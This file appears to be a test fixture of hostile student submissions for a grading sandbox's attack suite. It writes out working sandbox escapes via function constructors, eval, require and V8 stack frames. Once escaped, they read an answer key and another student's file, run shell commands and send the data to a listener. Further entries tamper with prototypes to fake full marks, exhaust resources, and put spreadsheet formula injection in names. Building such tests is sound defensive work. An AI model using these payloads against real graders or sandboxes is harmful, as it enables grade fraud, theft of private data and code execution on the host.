// Hostile submissions for the regrader's attack suite (regrade-attacks.test.ts): what a student
// who wants a better grade, or to hurt the instructor, could put in an exported progress file.
// Each is the code of the first exercise (gaussianWeights) unless it says otherwise. Placeholders,
// filled in by the test: __MARKERS__ (a folder that must stay empty), __PORT__ (a local TCP
// listener that must hear nothing), __SECRET__ (a file beside the class folder, standing in for an
// answer key), __OTHER__ (another student's file).

export interface Attack {
  /** The file name in the class folder, and what it tries. */
  file: string;
  what: string;
  student: { name: string; id: string };
  /** Code per exercise id; the others are left unanswered. */
  code: Record<string, string>;
  /** What its row's notes must match. */
  note: RegExp;
  /** Its total: 0 unless it says otherwise. */
  points?: number;
}

const FIRST = 'attention-pooling/gaussian-weights';

/**
 * Shared by the escapes: once any of them holds the host's `process` (or a module loader), do
 * every kind of harm at once — write a marker, run a command, send the answer key and another
 * student's file to the listener, kill the regrader — and say so in the error the row shows.
 */
const HARM = `
const MARKERS = '__MARKERS__';
const reached: string[] = [];
async function harm(how: string, load: (m: string) => any, proc?: any) {
  reached.push(how);
  let loot = '';
  try { const fs = await load('node:fs'); loot = fs.readFileSync('__SECRET__', 'utf8') + fs.readFileSync('__OTHER__', 'utf8'); fs.writeFileSync(MARKERS + '/' + how, loot); } catch {}
  try { (await load('node:child_process')).execSync('touch ' + MARKERS + '/' + how + '-exec'); } catch {}
  try { (await load('node:net')).connect(__PORT__, '127.0.0.1').end(how + loot); } catch {}
  try { const insp = await load('node:inspector'); const s = new insp.Session(); s.connectToMainThread(); reached.push('inspector'); } catch {}
  try { proc?.kill(proc.ppid, 'SIGKILL'); } catch {}
  reached.push(loot);
}
const fromProcess = (how: string, p: any) =>
  p && typeof p === 'object' && typeof p.pid === 'number' ? harm(how, (m) => p.getBuiltinModule(m), p) : undefined;
const IMP = 'imp' + 'ort';
`;

const REPORT = `
export function gaussianWeights(): never {
  throw new Error(reached.length ? 'ESCAPED via ' + reached.join(', ') : 'every attempt was blocked');
}
`;

const escape = (file: string, what: string, body: string): Attack => ({
  file,
  what,
  student: { name: `Escape ${file}`, id: `X-${file}` },
  code: { [FIRST]: `${HARM}\n${body}\n${REPORT}` },
  note: /every attempt was blocked|is not available|not a valid constructor|rejected|not allowed/,
});

/**
 * Tries to patch what the tests or the grader's bookkeeping use so that a wrong answer scores, then
 * answers wrongly: with the wrong shape (every test fails: 0), or with the right shape and zeros
 * (only the shape test passes: 1 of 4, 0.5 points). Without the sandbox, the push and Map patches
 * turn that into full marks.
 */
const patch = (file: string, what: string, body: string, rightShape = false): Attack => ({
  file,
  what,
  student: { name: `Patch ${file}`, id: `P-${file}` },
  code: {
    [FIRST]: `import { zeros, Tensor, tensor } from 'attention-lab';
const attempt = (_name: string, fn: () => void) => { try { fn(); } catch {} };
${body}
export function gaussianWeights(queries: Tensor, keys: Tensor, sigma: number): Tensor {
  return ${rightShape ? 'zeros([queries.shape[0]!, keys.shape[0]!])' : 'zeros([1])'};
}`,
  },
  note: rightShape ? /gaussian-weights: 1\/4 tests/ : /gaussian-weights: 0\/4 tests/,
  points: rightShape ? 0.5 : 0,
});

const resource = (file: string, what: string, code: string, note: RegExp): Attack => ({
  file,
  what,
  student: { name: `Resource ${file}`, id: `R-${file}` },
  code: { [FIRST]: code },
  note,
});

export const ATTACKS: Attack[] = [
  // Escapes: new code from the function constructors, import(), eval, globals, the stack API.
  escape(
    'esc-async-function.json',
    "getPrototypeOf((async () => {}).constructor), the issue's two-line escape, and the AsyncFunction constructor itself",
    `try { const F: any = Object.getPrototypeOf((async () => {}).constructor); await fromProcess('getPrototypeOf-async', F('return process')()); } catch {}
try { const F: any = Object.getPrototypeOf((async () => {}).constructor); const imp = F('m', 'return ' + IMP + '(m)'); await imp('node:fs'); await harm('getPrototypeOf-async-import', imp); } catch {}
try { const AF: any = (async () => {}).constructor; await fromProcess('async-constructor', await AF('return process')()); } catch {}`,
  ),
  escape(
    'esc-generator.json',
    'the generator and async generator function constructors',
    `try { const GF: any = (function* () {}).constructor; await fromProcess('generator', GF('yield process')().next().value); } catch {}
try { const GF: any = Object.getPrototypeOf(function* () {}).constructor; await fromProcess('generator-proto', GF('yield process')().next().value); } catch {}
try { const AGF: any = (async function* () {}).constructor; await fromProcess('async-generator', (await AGF('yield process')().next()).value); } catch {}`,
  ),
  escape(
    'esc-eval.json',
    'direct and indirect eval, and import() built from a string',
    `try { await fromProcess('indirect-eval', (0, eval)('globalThis.process')); } catch {}
try { await fromProcess('eval', eval('typeof process === "object" ? process : undefined')); } catch {}
try { const fs = await (0, eval)(IMP + '("node:fs")'); await harm('eval-import', async () => fs); } catch {}`,
  ),
  escape(
    'esc-function-global.json',
    "the Function global, this-realm's global through a constructor chain, and sloppy-mode this",
    `try { await fromProcess('Function', Function('return process')()); } catch {}
try { await fromProcess('Function-this', Function('return this')().process); } catch {}
try { await fromProcess('constructor-chain', (globalThis as any).constructor.constructor('return process')()); } catch {}
try { await fromProcess('object-constructor', ({} as any).constructor.constructor('return process')()); } catch {}`,
  ),
  escape(
    'esc-globals.json',
    'host globals: process, require, module, Buffer, fetch, WebAssembly, setImmediate, queueMicrotask, structuredClone',
    `const g: any = globalThis;
await fromProcess('globalThis.process', g.process);
for (const name of ['require', 'module', 'Buffer', 'fetch', 'WebAssembly', 'setImmediate', 'queueMicrotask', 'structuredClone', 'MessagePort', 'postMessage', 'SharedArrayBuffer', 'Atomics']) {
  if (g[name] !== undefined) reached.push('global ' + name);
}`,
  ),
  escape(
    'esc-import.json',
    "a static import of node:fs and the cell's require with Node modules",
    `import * as fs from 'node:fs';
try { await harm('static-import', async () => fs); } catch {}`,
  ),
  escape(
    'esc-require.json',
    "the cell's require function: Node modules, and new code from its constructor",
    `try { const cp = require('node:child_process'); await harm('require', async () => cp); } catch {}
try { await fromProcess('require-constructor', (require as any).constructor('return process')()); } catch {}`,
  ),
  escape(
    'esc-engine-functions.json',
    "the engine's own functions and objects: constructors of its methods, its prototypes, a tensor's backend",
    `import { tensor, getBackend, nn } from 'attention-lab';
const t: any = tensor([1, 2]);
try { await fromProcess('method-constructor', t.add.constructor('return process')()); } catch {}
try { await fromProcess('data-constructor', Object.getPrototypeOf(t.data).constructor('return process')()); } catch {}
try { await fromProcess('backend-constructor', (getBackend() as any).constructor.constructor('return process')()); } catch {}
try { await fromProcess('nn-constructor', (nn as any).Linear.constructor('return process')()); } catch {}`,
  ),
  escape(
    'esc-stack-frames.json',
    "V8's stack API: Error.prepareStackTrace to get host functions and receivers from call frames",
    `import { tensor } from 'attention-lab';
try {
  const E: any = Error;
  let frames: any[] = [];
  E.prepareStackTrace = (_e: unknown, fs: any[]) => { frames = fs; return ''; };
  try { tensor([1]).reshape([5]); } catch (e) { void (e as Error).stack; }
  for (const f of frames) {
    try { await fromProcess('frame-this', f.getThis()?.process ?? f.getThis()); } catch {}
    try { await fromProcess('frame-function', f.getFunction()?.constructor('return process')()); } catch {}
  }
  E.captureStackTrace?.({});
} catch {}`,
  ),
  escape(
    'esc-engine-backend.json',
    'swap the backend the tests compute with: registerBackend, setBackend, initWebGPU with a fake GPU (it could then answer every test)',
    `import { registerBackend, setBackend, initWebGPU, initBackend, getBackend } from 'attention-lab';
const fake: any = { name: 'cpu' };
try { registerBackend('cpu', () => fake); setBackend('cpu'); reached.push('registerBackend'); } catch {}
try { setBackend('webgpu'); reached.push('setBackend'); } catch {}
try { if (await initWebGPU({ gpu: { requestAdapter: async () => null } } as any)) reached.push('initWebGPU'); } catch {}
try { if ((await initBackend('webgpu')) !== 'cpu') reached.push('initBackend'); } catch {}
try { (getBackend() as any).run = () => {}; reached.push('backend.run'); } catch {}`,
  ),
  escape(
    'esc-import-in-comment.json',
    'source the sandbox refuses outright (an import expression, even in a comment)',
    `// import('node:fs') in a comment is enough for the sandbox to refuse the code`,
  ),
  // Patching what the tests and the grader's bookkeeping use (the "full marks without escaping").
  patch(
    'patch-array.json',
    "Array.prototype.push, so that every test outcome the grader records says passed",
    `const push = Array.prototype.push;
attempt('push', () => {
  Array.prototype.push = function (this: unknown[], ...items: any[]) {
    for (const it of items) if (it && typeof it === 'object' && 'passed' in it) { it.passed = true; delete it.message; }
    return push.apply(this, items);
  };
});
`,
  ),
  patch(
    'patch-map-set.json',
    "Map.prototype.set, so that the tests get a check object whose every check passes",
    `const set = Map.prototype.set;
const pass = new Proxy({}, { get: () => async () => {} });
attempt('map-set', () => { Map.prototype.set = function (this: Map<unknown, unknown>, k: unknown, v: unknown) { return set.call(this, k, k === 'check' ? pass : v); }; });`,
  ),
  patch(
    'patch-tensor.json',
    "Tensor.prototype.data, sum, shape and the engine's exported functions (the tests read through them)",
    `attempt('data', () => { (Tensor.prototype as any).data = async () => new Float32Array([1, 1, 1]); });
attempt('sum', () => { (Tensor.prototype as any).sum = function () { return tensor([1, 1, 1]); }; });
attempt('define', () => Object.defineProperty(Tensor.prototype, 'shape', { get: () => [3, 5] }));
attempt('via-instance', () => { (Object.getPrototypeOf(tensor([1])) as any).allclose = () => true; });
attempt('static', () => { (Tensor as any).from = () => null; });`,
    true,
  ),
  patch(
    'patch-checks.json',
    'what the checks compare with: Math.abs, Number.isFinite, Math.max, JSON.stringify, Promise.prototype.then, Object.prototype',
    `attempt('abs', () => { (Math as any).abs = () => 0; });
attempt('isFinite', () => { (Number as any).isFinite = () => true; });
attempt('max', () => { (Math as any).max = () => 0; });
attempt('json', () => { (JSON as any).stringify = () => '[]'; });
attempt('then', () => { (Promise.prototype as any).then = function () { return this; }; });
attempt('pollute', () => { (Object.prototype as any).passed = true; });
attempt('pollute-proto', () => { ({} as any).__proto__.total = 0; });`,
    true,
  ),
  patch(
    'patch-report.json',
    'the channel back to the regrader: postMessage, MessagePort, process.send, console',
    `const g: any = globalThis;
attempt('postMessage', () => { g.postMessage({ report: { passed: 1000, total: 1, tests: [] } }); });
attempt('MessagePort', () => { g.MessagePort.prototype.postMessage = () => {}; });
attempt('send', () => { g.process.send({ index: 0, report: { passed: 4, total: 4, tests: [] } }); });
attempt('console', () => { (console as any).log = () => {}; });`,
  ),
  // Resource exhaustion: each must end in its own row, not stop the batch.
  resource('res-sort.json', 'sort a huge typed array (one call the old worker could not interrupt)', `const a = new Float64Array(6e7);\nfor (let i = 0; i < a.length; i++) a[i] = Math.random();\na.sort();\nexport function gaussianWeights() { return a; }`, /stopped/),
  resource('res-typed-arrays.json', '2.5 GB of typed arrays (outside the JS heap)', `const keep: Float64Array[] = [];\nfor (let i = 0; i < 20; i++) keep.push(new Float64Array(2 ** 24).fill(i));\nexport function gaussianWeights() { return keep; }`, /stopped: used more than \d+ MB of memory/),
  resource('res-heap.json', 'an ever-growing JavaScript heap', `const keep: unknown[] = [];\nwhile (true) keep.push({ a: [1, 2, 3], b: 'x'.repeat(64) + keep.length });\nexport function gaussianWeights() { return keep; }`, /stopped|memory/),
  resource('res-loop.json', 'an endless loop at the top level', `while (true) {}\nexport function gaussianWeights() {}`, /stopped after \d+(\.\d+)? s/),
  resource('res-loop-in-test.json', 'an endless loop when the tests call it', `export function gaussianWeights() { for (;;) {} }`, /stopped after \d+(\.\d+)? s/),
  resource('res-recursion.json', 'infinite recursion', `function down(n: number): number { return down(n + 1) + 1; }\ndown(0);\nexport function gaussianWeights() {}`, /Maximum call stack size exceeded/),
  resource('res-never-settles.json', 'a promise that never settles', `await new Promise(() => {});\nexport function gaussianWeights() {}`, /never finished|stopped after/),
  resource('res-hostile-throw.json', "a thrown object whose message getter never returns (the grader's explanation of it)", `throw { get message(): string { for (;;) {} }, get name(): string { for (;;) {} } };\nexport function gaussianWeights() {}`, /stopped after|could not describe|Uncaught|\[object Object\]/),
  resource('res-timers.json', 'a timer that keeps rescheduling itself, and an unhandled rejection', `const spin = () => setTimeout(spin, 0);\nspin();\nPromise.reject(new Error('unhandled'));\nexport function gaussianWeights() { return 1; }`, /gaussian-weights: 0\/4 tests/),
  resource('res-huge-message.json', 'an error message of 10 MB that starts a formula', `throw new Error('=HYPERLINK("http://x")' + 'x'.repeat(1e7));\nexport function gaussianWeights() {}`, /Error on line 1: =HYPERLINK/),
];

/** Names and IDs that a spreadsheet could run as formulas, and one of 10 MB. */
export const CSV_NAMES: Array<{ file: string; name: string; id: string }> = [
  { file: 'csv-equals.json', name: '=1+1', id: '=S9001' },
  { file: 'csv-plus.json', name: '+1+1', id: '+S9002' },
  { file: 'csv-minus.json', name: '-1+1', id: '-S9003' },
  { file: 'csv-at.json', name: '@SUM(A1:A9)', id: '@S9004' },
  { file: 'csv-space.json', name: ' =1+1', id: ' =S9005' },
  { file: 'csv-newline.json', name: '\n=1+1', id: '\r\n=S9006' },
  { file: 'csv-tab.json', name: '\t=1+1', id: '\tS9007' },
  { file: 'csv-control.json', name: '\u0000\u001b=1+1', id: '\u00a0=S9008' },
  { file: 'csv-fullwidth.json', name: '＝1+1', id: '＠S9009' },
  { file: 'csv-fullwidth-space.json', name: '\u3000＋1', id: '－S9010' },
  { file: 'csv-huge.json', name: `=${'N'.repeat(10_000_000)}`, id: 'S9011' },
];
